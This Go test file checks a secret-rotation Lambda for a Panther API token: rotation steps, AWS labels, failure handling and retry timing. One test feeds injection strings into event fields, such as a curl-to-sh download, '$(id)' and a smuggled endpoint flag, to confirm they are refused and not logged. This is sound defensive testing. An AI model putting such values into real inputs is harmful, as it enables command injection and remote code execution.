package rotation_test

import (
	"bytes"
	"context"
	"errors"
	"log/slog"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"panther-token-rotation/internal/rotation"
	"panther-token-rotation/internal/secret"
)

func TestARotationFromBeginningToEnd(t *testing.T) {
	inAccount(t, func(t *testing.T, a *account) {
		a.answers = []any{token(2)}
		for _, step := range []rotation.Step{rotation.CreateSecret, rotation.SetSecret, rotation.TestSecret, rotation.FinishSecret} {
			a.mustRun(step)
		}
		want := []string{
			"Describe", "Read new", "Versions", "ReadCurrent", "Put old AWSCURRENT", "Rotate", "Seal", "Put new AWSPENDING", "Describe",
			"Describe", "Read new", "Check",
			"Describe", "Read new", "MoveCurrent",
		}
		if !slices.Equal(a.calls, want) {
			t.Errorf("calls: %v\nwant:  %v", a.calls, want)
		}
		a.mustHold("new", 2)
		if a.labelled(rotation.LabelCurrent) != "new" || a.labelled(rotation.LabelPrevious) != "old" {
			t.Error("the labels did not move")
		}
		last := a.measured[len(a.measured)-1]
		if last.Event != rotation.Rotated || last.Duration <= 0 || last.Duration > time.Second {
			t.Errorf("the end was measured as %+v", last)
		}
	})
}

func TestEveryStepChecksWhatAWSAsks(t *testing.T) {
	for _, step := range []rotation.Step{rotation.CreateSecret, rotation.TestSecret, rotation.FinishSecret} {
		t.Run(string(step), func(t *testing.T) {
			inAccount(t, func(t *testing.T, a *account) {
				a.enabled = false
				a.mustFail(step, rotation.NotRotating, "rotation is not enabled", "rotate-secret --secret-id "+arn)
				a.enabled = true

				a.versions["new"].labels = []string{"SOMETHING"}
				a.mustFail(step, rotation.NotRotating, "AWSPENDING")
				delete(a.versions, "new")
				a.mustFail(step, rotation.NotRotating, "no such version")

				a.add("new", token(2), rotation.LabelCurrent)
				a.unlabel("old", rotation.LabelCurrent)
				a.calls = nil
				a.mustRun(step)
				if !slices.Equal(a.calls, []string{"Describe"}) {
					t.Errorf("a version that is AWSCURRENT already takes %v", a.calls)
				}
			})
		})
	}
}

func TestAnEventFromElsewhereIsRefused(t *testing.T) {
	inAccount(t, func(t *testing.T, a *account) {
		a.mustFail("rotateEverything", rotation.BadEvent, "Step")
		if len(a.calls) > 0 {
			t.Errorf("it called %v", a.calls)
		}
	})
}

func TestEventFieldsAreNotEchoed(t *testing.T) {
	inAccount(t, func(t *testing.T, a *account) {
		for _, text := range []string{"x; curl https://example.com | sh #", "x --endpoint-url https://example.com", "$(id)", "a$(id)b", "x\n--region y", "ü", "--endpoint-url=x"} {
			for part, req := range map[string]rotation.Request{
				"Step":               {Step: rotation.Step(text), SecretID: arn, VersionID: "new"},
				"SecretId":           {Step: rotation.CreateSecret, SecretID: text, VersionID: "new"},
				"ClientRequestToken": {Step: rotation.CreateSecret, SecretID: arn, VersionID: text},
			} {
				var log bytes.Buffer
				err := a.rotator.Handle(t.Context(), slog.New(slog.NewTextHandler(&log, nil)), req)
				if !errors.Is(err, rotation.BadEvent) || !strings.Contains(err.Error(), part) {
					t.Errorf("%s %q: %v", part, text, err)
				}
				quoted := strings.Trim(strconv.Quote(text), `"`)
				if said := err.Error() + log.String(); strings.Contains(said, text) || strings.Contains(said, quoted) {
					t.Errorf("%s %q is in the error or the log: %s", part, text, said)
				}
			}
		}
		if len(a.calls) > 0 {
			t.Errorf("it called %v", a.calls)
		}
	})
}

func TestAVersionWithAValueIsLeftAlone(t *testing.T) {
	inAccount(t, func(t *testing.T, a *account) {
		a.versions["new"].value = token(2)
		a.mustRun(rotation.CreateSecret)
		if !slices.Equal(a.calls, []string{"Describe", "Read new", "ReadCurrent"}) {
			t.Errorf("it called %v", a.calls)
		}
	})
}

func TestTheNextRotationBeginsAfresh(t *testing.T) {
	inAccount(t, func(t *testing.T, a *account) {
		a.answers = []any{token(2), token(3)}
		for range 2 {
			a.mustRun(rotation.CreateSecret)
			a.put("old", a.versions["new"].value)
			a.add("new", "", rotation.LabelPending)
		}
		a.mustHold("old", 3)
		if a.count("Put successor") != 0 {
			t.Error("a token that is stored was stored again")
		}
	})
}

func TestNothingIsRotatedUnlessStoringWouldWork(t *testing.T) {
	denied := errors.New("AccessDeniedException")
	for name, tc := range map[string]struct {
		change  func(a *account)
		timeout time.Duration
		kind    rotation.Kind
		says    string
	}{
		"the version cannot be read":  {func(a *account) { a.failing("Read new", denied) }, 0, rotation.StoreUnavailable, "AccessDenied"},
		"AWSCURRENT cannot be read":   {func(a *account) { a.failing("ReadCurrent", denied) }, 0, rotation.StoreUnavailable, "AccessDenied"},
		"AWSCURRENT is binary":        {func(a *account) { a.failing("ReadCurrent", secret.ErrBinary) }, 0, rotation.SecretUnusable, "SecretBinary"},
		"there is no AWSCURRENT":      {func(a *account) { a.failing("ReadCurrent", rotation.ErrNoValue) }, 0, rotation.SecretUnusable, "put-secret-value"},
		"the key is missing":          {func(a *account) { a.versions["old"].value = `{"other":"x"}` }, 0, rotation.SecretUnusable, "SECRET_TOKEN_KEY"},
		"the value is too large":      {func(a *account) { a.versions["old"].value = strings.Repeat("x", secret.MaxBytes) + " \n" }, 0, rotation.SecretUnusable, "65536"},
		"a write is refused":          {func(a *account) { a.failing("Put old AWSCURRENT", denied) }, 0, rotation.StoreUnavailable, "a test write failed"},
		"a write hangs":               {func(a *account) { a.failing("Put old AWSCURRENT", context.DeadlineExceeded) }, 0, rotation.StoreUnavailable, "a test write failed"},
		"Lambda's default timeout":    {func(*account) {}, 3 * time.Second, rotation.NoTime, "Timeout"},
		"a timeout of half a minute":  {func(*account) {}, 30 * time.Second, rotation.NoTime, "240 seconds"},
		"AWSCURRENT moves in between": {func(a *account) { a.then = func(string) { a.replaceByHand() } }, 0, rotation.NotRotating, "AWSCURRENT moved"},
	} {
		t.Run(name, func(t *testing.T) {
			inAccount(t, func(t *testing.T, a *account) {
				tc.change(a)
				if tc.timeout == 0 {
					tc.timeout = lambdaTimeout
				}
				a.check(a.run(rotation.CreateSecret, tc.timeout), tc.kind, tc.says)
				if a.count("Rotate") != 0 {
					t.Error("the token was rotated")
				}
			})
		})
	}
}

func (a *account) failing(call string, err error) {
	a.fail = func(c string) error {
		if c == call {
			return err
		}
		return nil
	}
}

// replaceByHand is a person who puts token 3, made in the console.
func (a *account) replaceByHand() {
	a.then = nil
	a.living[token(3)] = true
	a.unlabel("old", rotation.LabelCurrent)
	a.add("by-hand", token(3), rotation.LabelCurrent)
}

// TestWhatEachAnswerMeans is the table of answers to rotateAPIToken: what is done
// next, and how it ends. Checks are answered as listed, then by whether the token
// lives.
func TestWhatEachAnswerMeans(t *testing.T) {
	lost := func(a *account) { a.living[token(1)] = false }
	for name, tc := range map[string]struct {
		answers         []any
		checks          []error
		change          func(*account)
		rotates, asks   int
		kind            rotation.Kind // empty: it ends well
		says            string
		notBefore, upTo time.Duration // between the first and the last call to Panther
	}{
		"a token":                       {answers: []any{token(2)}, rotates: 1},
		"refused":                       {answers: []any{refused}, rotates: 1, kind: rotation.TokenRefused, says: "CIDR"},
		"throttled, then a token":       {answers: []any{throttled, token(2)}, rotates: 2, notBefore: 30 * time.Second, upTo: 31 * time.Second},
		"not sent, then a token":        {answers: []any{notSent, notSent, token(2)}, rotates: 3, notBefore: time.Second, upTo: 3 * time.Second},
		"wrong address":                 {answers: []any{misconfigured}, rotates: 1, kind: rotation.EndpointMisconfigured, says: "PANTHER_API_URL"},
		"lost before it took effect":    {answers: []any{unclear, token(2)}, rotates: 2, asks: 1},
		"an error of no known kind":     {answers: []any{errors.New("?"), token(2)}, rotates: 2, asks: 1},
		"an empty token":                {answers: []any{"", token(2)}, change: func(a *account) {}, rotates: 1, asks: 7, kind: rotation.TokenLost},
		"lost after it took effect":     {answers: []any{unclear}, change: lost, rotates: 1, asks: 7, kind: rotation.TokenLost, says: "RECOVERY_RECIPIENT"},
		"hangs":                         {answers: []any{context.DeadlineExceeded, token(2)}, rotates: 2, asks: 1},
		"hangs, and took effect":        {answers: []any{context.DeadlineExceeded}, change: lost, rotates: 1, asks: 7, kind: rotation.TokenLost, notBefore: 90 * time.Second, upTo: 92 * time.Second},
		"lost, then nothing clear":      {answers: []any{unclear, token(2)}, checks: []error{unclear, throttled, notSent, misconfigured}, rotates: 2, asks: 5},
		"lost, and never anything more": {answers: []any{unclear}, checks: slices.Repeat([]error{unclear}, 100), rotates: 1, asks: 33, kind: rotation.OutcomeUnknown, says: "rotate-secret", upTo: lambdaTimeout},
		"never a connection":            {answers: slices.Repeat([]any{notSent}, 100), rotates: 29, kind: rotation.PantherUnavailable, says: "NAT", upTo: lambdaTimeout},
		"asked to wait for too long":    {answers: []any{answer(rotation.Throttled, time.Hour)}, rotates: 1, kind: rotation.PantherUnavailable},
	} {
		t.Run(name, func(t *testing.T) {
			inAccount(t, func(t *testing.T, a *account) {
				a.answers, a.checks = tc.answers, tc.checks
				if tc.change != nil {
					tc.change(a)
				}
				if tc.kind != "" {
					a.mustFail(rotation.CreateSecret, tc.kind, tc.says)
				} else {
					a.mustRun(rotation.CreateSecret)
					a.mustHold("new", 2)
				}
				if a.count("Rotate") != tc.rotates || a.count("Check") != tc.asks {
					t.Errorf("it rotated %d and asked %d times, want %d and %d", a.count("Rotate"), a.count("Check"), tc.rotates, tc.asks)
				}
				took := a.asked[len(a.asked)-1].Sub(a.asked[0])
				if took < tc.notBefore || tc.upTo > 0 && took > tc.upTo {
					t.Errorf("from the first to the last call it took %v, want %v to %v", took, tc.notBefore, tc.upTo)
				}
			})
		})
	}
}

func TestAYoungTokenIsGivenTime(t *testing.T) {
	inAccount(t, func(t *testing.T, a *account) {
		a.versions["old"].created = time.Now()
		a.answers = []any{refused, refused, token(2)}
		a.mustRun(rotation.CreateSecret)
		a.mustHold("new", 2)
	})
}

func TestTheLivingTokenIsFoundInTheSecret(t *testing.T) {
	for name, tc := range map[string]struct {
		labels []string
		older  bool
		found  bool
	}{
		"of a cancelled rotation":     {labels: nil, found: true},
		"of a label moved back":       {labels: []string{rotation.LabelPrevious}, found: true},
		"of a second invocation":      {labels: []string{rotation.LabelSuccessor}, found: true},
		"not where a person labelled": {labels: []string{"KEEP"}},
		"not in an older version":     {older: true},
		"not in an older AWSPREVIOUS": {older: true, labels: []string{rotation.LabelPrevious}},
	} {
		t.Run(name, func(t *testing.T) {
			inAccount(t, func(t *testing.T, a *account) {
				a.living = map[string]bool{token(2): true}
				a.add("other", token(2), tc.labels...)
				a.versions["other"].created = time.Now().Add(-time.Hour)
				if tc.older {
					a.versions["other"].created = a.versions["old"].created.Add(-time.Hour)
				}
				a.answers = []any{refused}
				if !tc.found {
					a.mustFail(rotation.CreateSecret, rotation.TokenRefused)
					return
				}
				a.mustRun(rotation.CreateSecret)
				a.mustHold("new", 2)
			})
		})
	}
}

func TestTheNewestLivingTokenIsTaken(t *testing.T) {
	inAccount(t, func(t *testing.T, a *account) {
		a.living = map[string]bool{token(2): true, token(3): true}
		a.add("newer", token(2))
		a.add("newest", token(3))
		a.answers = []any{refused}
		a.mustRun(rotation.CreateSecret)
		a.mustHold("new", 3)
	})
}

func TestAnotherInvocationsTokenIsNotRotatedAgain(t *testing.T) {
	inAccount(t, func(t *testing.T, a *account) {
		a.answers = []any{notSent}
		a.fail = func(call string) error {
			if a.count("Rotate") == 1 {
				a.versions["new"].value = token(3)
			}
			return nil
		}
		a.mustRun(rotation.CreateSecret)
		a.mustHold("new", 3)
	})
}

// TestWhatIsRotatedMustBeKnown: nothing is rotated if AWSCURRENT cannot be read,
// or is not what the step began with.
func TestWhatIsRotatedMustBeKnown(t *testing.T) {
	inAccount(t, func(t *testing.T, a *account) {
		a.fail = func(call string) error {
			if call == "ReadCurrent" {
				return errDown
			}
			return nil
		}
		a.mustFail(rotation.CreateSecret, rotation.StoreUnavailable, "cannot read the AWSCURRENT value: ")
	})
	inAccount(t, func(t *testing.T, a *account) {
		a.add("other", token(7))
		a.fail = once(a, "ReadCurrent", func() { a.moveCurrent("other") })
		a.mustFail(rotation.CreateSecret, rotation.NotRotating, "moved while this step began")
	})
}
